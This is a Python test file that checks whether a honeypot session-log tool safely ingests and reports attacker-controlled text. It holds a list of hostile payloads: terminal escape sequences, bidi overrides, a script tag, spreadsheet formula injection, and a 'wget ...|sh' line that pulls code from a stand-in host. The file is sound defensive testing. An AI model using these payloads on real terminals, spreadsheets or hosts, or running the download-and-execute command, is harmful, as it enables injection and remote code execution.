"""A log that harms whatever prints it, ingested for real: every command, in every format, prints nothing that acts."""

import csv
import io
import itertools
import json
import os
import re

import pytest
from ingested import did, outcome
from terminal import seen
from test_formats import harmless, tables
from test_schemas import NEEDED

from sesscore.defang import defang
from sesscore.formats import FORMATS, Look, pieces
from sesscore.ingest import ingest
from sesscore.render import to_page
from sesscore.report.period import Period
from sesscore.report.registry import report, shipped
from sesscore.report.snapshot import Snapshot, made
from sesscore.safecells import csv_cell
from sesscore.snapshot import one_state
from sesscore.store import open_for_reading

PAYLOADS = (
    "EVIL\x1b[2J\x1b]0;title\x07\x1bP1$r\x1b\\",
    "EVIL\x9b31m\x84\x90\x9d",
    "EVIL\u202etxt.exe\u202c\u2066\u200e\u061c",
    "EVIL\r\n\n\x0b\x0c\x85\u2028\u2029\tx",
    "EVIL\udc80\ud83d \ude00\ufffe\uffff",
    "EVIL\u200b\u2060\ufeff\u3164\u00ad\ufe0f\U000e0041",
    "<script>alert('EVIL')</script><img src=http://EVIL.example/x>",
    '=HYPERLINK("http://EVIL.example";"EVIL")',
    "+EVIL",
    "-EVIL;=EVIL",
    "@EVIL",
    "\t=EVIL",
    "＝EVIL",
    "[EVIL](http://EVIL.example) **EVIL** `EVIL` | EVIL \\| <b>EVIL</b> EVIL@mail.example ~~EVIL~~",
    "wget http://EVIL.example/a|sh; curl -O 198.51.100.7/EVIL",
    "漢字EVILe\u0301\u0301\u0301",
    "EVIL\x00EVIL",
    "EVIL" + "x" * 3000,
    "",
)
WITHOUT_TEXTS = {"abnormal", "timeline"}  # reports that print none of this log
ONE_OF = itertools.cycle(PAYLOADS)


def sessions():
    """Sessions whose every text is one of these."""
    for number, one in enumerate(PAYLOADS):
        name, seconds = f"EVIL{number}{one}", number * 10
        texts = {"sensor": one[:200] or "EVIL"}
        for event in (
            did(name, seconds, "session.connect", src_ip=one, src_port=1, dst_ip=one, dst_port=2, protocol=one),
            did(name, seconds + 1, "client.version", version=one),
            did(name, seconds + 1, "client.kex", hassh=one),
            did(name, seconds + 2, "login.failed", username=one, password=next(ONE_OF)),
            did(name, seconds + 2, "login.failed", username=one),
            did(name, seconds + 3, "login.success", username=next(ONE_OF), password=one),
            did(name, seconds + 4, "command.input", input=one),
            did(name, seconds + 4, "command.failed", input=one),
            did(name, seconds + 5, "session.file_download", url=one, shasum=one, outfile=one),
            did(name, seconds + 5, "session.file_download.failed", url=one),
            did(name, seconds + 6, "session.file_upload", filename=one, shasum=f"{number:064}"),
            did(name, seconds + 7, "direct-tcpip.request", dst_ip=one, dst_port=25),
            did(name, seconds + 7, "log.closed", ttylog=one),
            did(name, seconds + 8, f"EVIL.{one}"),
            did(name, seconds + 9, "session.closed", duration=1),
        ):
            yield {**event, **texts}


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    logs = os.fsencode(folder / "logs")
    os.mkdir(logs)
    events = [json.dumps(event).encode() for event in sessions()]
    events.append(b'{"EVIL\x1b[2J": broken \x9b =EVIL')
    for name, data in (
        (b"EVIL\x1b[2J\n<b>.json", events),
        (b"=EVIL\xff\xe2\x80\xae.json", [b"EVIL\x1b[2J, alien\x9b"]),
    ):
        with open(os.path.join(logs, name), "wb") as file:
            file.write(b"\n".join(data) + b"\n")
    path = str(folder / "s.db")
    ingest([os.fsdecode(logs)], db=path)
    return path


def check(out, form):
    """What holds for the bytes of a document, whatever it says."""
    text = out.decode()
    assert harmless(text.replace("\r\n", "\n") if form == "csv" else text)
    if form == "json":
        json.loads(text)
    elif form == "jsonl":
        assert all(isinstance(json.loads(line), dict) for line in text.splitlines())
    elif form == "csv":
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len({len(row) for row in rows}) == 1
        cells = [cell.lstrip(' "') for row in rows for cell in row]
        assert not [cell for cell in cells if cell[:1] in {*"=+-@＝"} and not re.fullmatch(r"-\d+(\.\d+)?", cell)]
    elif form == "markdown":
        for table in tables(text):
            assert len({len(row) for row in table}) == 1


@pytest.mark.parametrize("form", FORMATS)
@pytest.mark.parametrize("name", shipped())
def test_every_report(capsysbinary, db, name, form):
    arguments = ("report", name, *NEEDED.get(name, ()), "--db", db, "--format", form)
    plain = outcome(capsysbinary, *arguments)
    defanged = outcome(capsysbinary, *arguments, "--defang")
    assert (plain[0], plain[2], defanged[0], defanged[2]) == (0, b"", 0, b"")
    check(plain[1], form)
    check(defanged[1], form)
    assert b"EVIL" in plain[1] or form != "json" or name in WITHOUT_TEXTS
    assert b"http://EVIL.example" not in defanged[1]


@pytest.mark.parametrize("name", shipped())
def test_a_terminal_sees_our_colours_and_nothing_else(db, name):
    with open_for_reading(db) as opened, one_state(opened.connection):
        snapshot = Snapshot(opened.connection, report(name), Period(since_us=0))
        out = b"".join(pieces(made(snapshot), "table", Look(colour=True))).decode()
    assert "\x1b[1m" in out
    assert harmless(seen(out))


@pytest.mark.parametrize("form", FORMATS)
def test_own_questions(capsysbinary, db, form):
    """Every text of the database, under names that are hostile too."""
    evil = "EVIL\x1b[2J\u202e|`<b>=\x9b"
    query = f'SELECT value AS "=1", value AS "{evil}", value || \'\', text_id AS "{evil}" FROM text'
    code, out, err = outcome(capsysbinary, "sql", query, "--db", db, "--format", form)
    assert (code, err) == (0, b"")
    check(out, form)
    if form == "json":
        rows = json.loads(out)["rows"]
        told = {row["=1"] for row in rows}
        whole = {text for text in PAYLOADS if not any("\ud800" <= one <= "\udfff" for one in text)} - {""}
        assert whole <= told
        assert "EVIL\ufffd\ufffd \ufffd\ufffe\uffff" in told
        assert list(rows[0]) == ["=1", evil, "value || ''", f"{evil}:1"]
    if form == "csv":
        told = {row[0] for row in csv.reader(io.StringIO(out.decode(), newline=""))}
        assert {csv_cell(text) for text in PAYLOADS if text and text.isprintable()} <= told
    if form == "markdown":
        assert len(tables(out.decode())) == 1


@pytest.mark.parametrize("command", ["show", "why"])
def test_every_session(capsysbinary, db, command):
    with open_for_reading(db) as opened:
        keys = [key for (key,) in opened.connection.execute("SELECT session_key FROM session")]
    assert len(keys) == len(PAYLOADS)
    for key in keys:
        for more, form in ((), "page"), (("--format", "json"), "json"):
            code, out, err = outcome(capsysbinary, command, f"#{key}", "--db", db, *more)
            assert (code, err) == (0, b"")
            assert b"EVIL" in out
            check(out, form)


def test_other_pages(capsysbinary, db, tmp_path):
    for arguments in (
        ("quarantine", "list"), ("verify",), ("db", "info"), ("db", "check"), ("matchers",),
        ("ingest", os.path.join(os.path.dirname(db), "logs")),
    ):  # fmt: skip
        for more, form in ((), "page"), (("--format", "json"), "json"):
            code, out, err = outcome(capsysbinary, *arguments, "--db", db, *more)
            assert code == 0
            check(out, form)
            assert harmless(err.decode())


def test_pages_in_colour(db):
    from sesscore import quarantined, timeline, why, why_page

    with open_for_reading(db) as opened:
        connection = opened.connection
        told = [timeline.page(timeline.document(connection, f"#{key}")) for key in range(1, len(PAYLOADS))]
        told += [why_page.page(why.document(connection, f"#{key}")) for key in range(1, len(PAYLOADS))]
        told.append(quarantined.page(quarantined.document(connection, quarantined.Wanted())))
    for page in told:
        assert harmless(seen(to_page(page, colour=True).decode()))


def test_the_log_would_harm():
    """What is looked for is there, and a terminal would obey it."""
    log = "".join(json.dumps(event, ensure_ascii=False) for event in sessions())
    assert not harmless(log)
    with pytest.raises(AssertionError):
        seen(PAYLOADS[0])
    assert defang(PAYLOADS[14]) != PAYLOADS[14]


def test_who_watches_an_ingest(capsysbinary, db, tmp_path):
    """A log of milestones, what a hook gets, figures for Prometheus, the page of a run and the line for monitors."""
    log, milestones, prom = (tmp_path / name for name in ("log", "milestones", "s.prom"))
    logs, own = os.path.join(os.path.dirname(db), "logs"), str(tmp_path / "s.db")
    hook, level = ("--on-event", f"tee -a {milestones}"), ("--log-level", "debug")
    told = ("--log-file", str(log), *level, "--prometheus-file", str(prom), *hook)
    assert outcome(capsysbinary, "ingest", logs, "--db", own, *told)[0] == 0
    for path in (log, milestones):
        assert "EVIL" in path.read_text()
        assert all(harmless(line) for line in path.read_text().split("\n"))
    assert "EVIL" not in prom.read_text()
    for form in ("text", "json"):
        code, out, err = outcome(capsysbinary, "ingest", logs, "--db", own, "--log-format", form, *level)
        assert (code, out) == (0, b"")
        assert all(harmless(line) for line in err.decode().split("\n"))
    for more in ((), ("--format", "json"), ("--check",)):
        code, out, err = outcome(capsysbinary, "status", "--db", own, *more)
        assert (code, err) == (0, b"")
        assert harmless(out.decode())
